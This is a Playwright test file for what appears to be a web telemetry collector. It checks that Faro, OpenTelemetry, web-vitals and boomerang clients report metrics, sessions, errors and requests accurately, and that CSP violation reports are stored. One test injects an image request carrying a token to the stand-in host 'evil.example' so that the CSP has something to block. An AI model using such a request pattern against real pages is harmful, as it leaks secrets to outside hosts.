import { type Browser, expect, type Page, test } from '@playwright/test';

import { Secure } from './clients/secure';
import { Site } from './clients/site';
import { type Row, Stack } from './stack';

/** What the page itself says of its load and its one click, by the browser's own performance entries: ms, CLS a score. */
type Measured = Record<'lcp' | 'cls' | 'ttfb' | 'fcp' | 'inp', number>;

/** A client, how its page starts it, and what it can tell. */
interface Client {
  name: string;
  page: string;
  told?: Record<string, string>;
  metrics: Array<keyof Measured>;
  /** A request that it tells, and how often. */
  request?: { path: string; times: number };
  views?: boolean;
  errors?: boolean;
  actions?: boolean;
}

const all: Array<keyof Measured> = ['lcp', 'cls', 'ttfb', 'fcp', 'inp'];

const once = { path: '/api/basket', times: 1 };
// Faro tells a fetch by its timing first. That it is traced, too, is only known from its first span on.
const twice = { path: '/api/basket', times: 2 };
// boomerang's beacons of requests are those of XMLHttpRequests.
const xhr = { path: '/api/missing', times: 1 };

const clients: Client[] = [
  { name: 'the Faro Web SDK with tracing', page: 'faro', metrics: all, request: twice, views: true, errors: true, actions: true },
  { name: 'OpenTelemetry over OTLP in JSON', page: 'otel', metrics: all, request: once, views: true, errors: true, actions: true },
  {
    name: 'OpenTelemetry over OTLP in protobuf',
    page: 'otel',
    told: { encoding: 'proto' },
    metrics: all,
    request: once,
    views: true,
    errors: true,
    actions: true,
  },
  { name: "web-vitals with its README's snippet", page: 'vitals', metrics: all },
  { name: "web-vitals with its README's queue", page: 'vitals', told: { batch: '' }, metrics: all },
  { name: 'boomerang by POST', page: 'boomerang', metrics: ['lcp', 'cls', 'ttfb', 'inp'], request: xhr, views: true, errors: true },
  { name: 'boomerang by GET', page: 'boomerang', told: { type: 'GET' }, metrics: ['lcp', 'cls', 'ttfb', 'inp'], views: true },
];

let stack: Stack;
let site: Site;

test.beforeAll(async () => {
  stack = await Stack.start();
  site = await Site.start();
});

test.afterAll(async () => {
  await site?.stop();
  await stack?.stop();
});

for (const [n, client] of clients.entries()) {
  test(`what ${client.name} sends is what the page measured`, async ({ browser }) => {
    const app = `client-${n}`;
    const measured = await visit(browser, client, app);
    expect(measured.cls, 'the page shifted').toBeGreaterThan(0);
    expect(measured.inp, 'the click was slow').toBeGreaterThan(100);

    for (const metric of client.metrics) {
      const [row] = await stack.askUntil(
        { queryType: 'vitals', app, metric, format: 'table', minSamples: 1, groupBy: ['route'] },
        (rows) => rows.length > 0
      );
      expect(row.samples, `${metric}: one page view counts once`).toBe(1);
      const tolerance = metric === 'cls' ? 0.001 : 1;
      const off = Math.abs((row.value as number) - measured[metric]);
      expect(off, `${metric}: ${String(row.value)} is stored, the page measured ${measured[metric]}`).toBeLessThanOrEqual(tolerance);
      expect(row.route).toBe(`/product/${client.page}`);
    }
    if (client.views) {
      const [session] = await stack.askUntil({ queryType: 'sessions', app }, (rows) => rows.length > 0);
      expect(session).toMatchObject({ views: 1, browser: 'Chrome', device: 'desktop' });
    }
    if (client.request) {
      const { path, times } = client.request;
      const found = (rows: Row[]) => rows.find((row) => String(row.endpoint).endsWith(path));
      const rows = await stack.askUntil(
        { queryType: 'requests', app, format: 'table', groupBy: ['endpoint'], minSamples: 1 },
        (answer) => found(answer) !== undefined
      );
      expect(found(rows)?.samples, 'told several times').toBe(times);
    }
    if (client.errors) {
      const thrown = (rows: Row[]) => rows.find((row) => row.errorType === 'TypeError');
      const rows = await stack.askUntil({ queryType: 'errors', app, format: 'table' }, (answer) => thrown(answer) !== undefined);
      expect(thrown(rows)).toMatchObject({ count: 1, message: expect.stringContaining('no card of [email]') });
    }
    if (client.actions) {
      const rows = await stack.askUntil({ queryType: 'actions', app, format: 'table' }, (found) => found.length > 0);
      expect(rows.length).toBeGreaterThan(0);
    }
  });
}

test("what Chromium's own Reporting API and report-uri send is stored as errors", async ({ browser }) => {
  const collector = await Secure.before(stack.collector);
  const reports = `${collector.url}/v1/reports?app=reporting`;
  const plain = await Site.start({
    'content-security-policy': "img-src 'self'; report-to main",
    'reporting-endpoints': `main="${reports}", default="${reports}"`,
    'permissions-policy': 'geolocation=()',
  });
  const old = await Site.start({
    'content-security-policy': `img-src 'self'; report-uri ${stack.collector}/v1/reports?app=report-uri`,
  });
  const secure = await Secure.before(plain.url);
  try {
    for (const base of [secure.url, old.url]) {
      const page = await browser.newPage({ ignoreHTTPSErrors: true });
      await page.goto(`${base}/product/none?token=secret1`);
      await page.evaluate(() => {
        const image = new Image();
        image.src = 'https://evil.example/pixel.png?token=secret2';
        document.body.append(image);
        const request = new XMLHttpRequest();
        request.open('GET', '/api/basket', false);
        request.send();
        navigator.geolocation.getCurrentPosition(
          () => undefined,
          () => undefined
        );
      });
      await page.waitForTimeout(500);
      await page.goto('about:blank');
      await page.close();
    }
    const reported = await stack.askUntil(
      { queryType: 'errors', app: 'reporting', format: 'table' },
      (rows) => rows.length >= 3
    );
    expect(reported.map((row) => row.errorType).sort()).toEqual([
      'XMLHttpRequestSynchronousInNonWorkerOutsideBeforeUnload',
      'img-src',
      'permissions-policy-violation',
    ]);
    const violation = { errorType: 'img-src', message: 'blocked https://evil.example/pixel.png by img-src', count: 1 };
    expect(reported.find((row) => row.errorType === 'img-src')).toMatchObject(violation);
    const [byURI] = await stack.askUntil({ queryType: 'errors', app: 'report-uri', format: 'table' }, (rows) => rows.length > 0);
    expect(byURI).toMatchObject(violation);
  } finally {
    await Promise.all([collector.stop(), secure.stop(), plain.stop(), old.stop()]);
  }
});

// A person takes a moment before the next thing, and clients send what they have gathered meanwhile.
async function visit(browser: Browser, client: Client, app: string): Promise<Measured> {
  const page = await browser.newPage();
  const told = { endpoint: stack.collector, app, session: `s-${app}`, ...client.told };
  await page.goto(site.page(client.page, told), { waitUntil: 'load' });
  await expect(page.locator('.late')).toBeVisible();
  await page.waitForTimeout(1500);
  await page.getByRole('button', { name: 'Put into basket' }).click();
  await page.waitForTimeout(1000);
  const measured = await measure(page);
  const thrown = page.waitForEvent('pageerror');
  await page.getByRole('button', { name: 'Pay' }).click();
  await thrown;
  await page.waitForTimeout(1000);
  await page.goto('about:blank');
  await page.close();
  return measured;
}

function measure(page: Page): Promise<Measured> {
  return page.evaluate(async () => {
    const entries = <T extends PerformanceEntry>(type: string) =>
      new Promise<T[]>((resolve) => {
        const observer = new PerformanceObserver((list) => resolve(list.getEntries() as T[]));
        observer.observe({ type, buffered: true });
      });
    const [navigation] = await entries<PerformanceNavigationTiming>('navigation');
    const paints = await entries('largest-contentful-paint');
    const [painted] = performance.getEntriesByName('first-contentful-paint');
    const shifts = await entries<PerformanceEntry & { value: number; hadRecentInput: boolean }>('layout-shift');
    const events = await entries<PerformanceEntry & { interactionId: number }>('event');
    return {
      lcp: paints[paints.length - 1].startTime,
      fcp: painted.startTime,
      cls: shifts.filter((shift) => !shift.hadRecentInput).reduce((sum, shift) => sum + shift.value, 0),
      ttfb: navigation.responseStart,
      inp: Math.max(...events.filter((event) => event.interactionId).map((event) => event.duration)),
    };
  });
}
